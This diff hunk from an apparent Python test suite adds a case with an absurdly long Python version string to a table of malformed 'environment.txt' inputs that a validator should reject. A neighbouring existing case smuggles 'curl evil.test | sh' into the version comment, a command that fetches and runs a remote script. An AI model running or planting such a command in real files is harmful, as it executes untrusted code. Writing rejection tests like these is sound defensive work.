@@ -427,6 +427,10 @@ EVIDENCE |= {
         replaced("environment.txt", b"# python 3.", b"# python 3; curl evil.test | sh # "),
         "as the version of Python",
     ),
+    "a Python of very many digits": (
+        replaced("environment.txt", b"# python 3.", b"# python 3." + b"9" * 5_000),
+        "as the version of Python",
+    ),
     "a package that does not exist": (
         another_package,
         "environment.txt has zz-evil, which localization-api-conformance does not need",
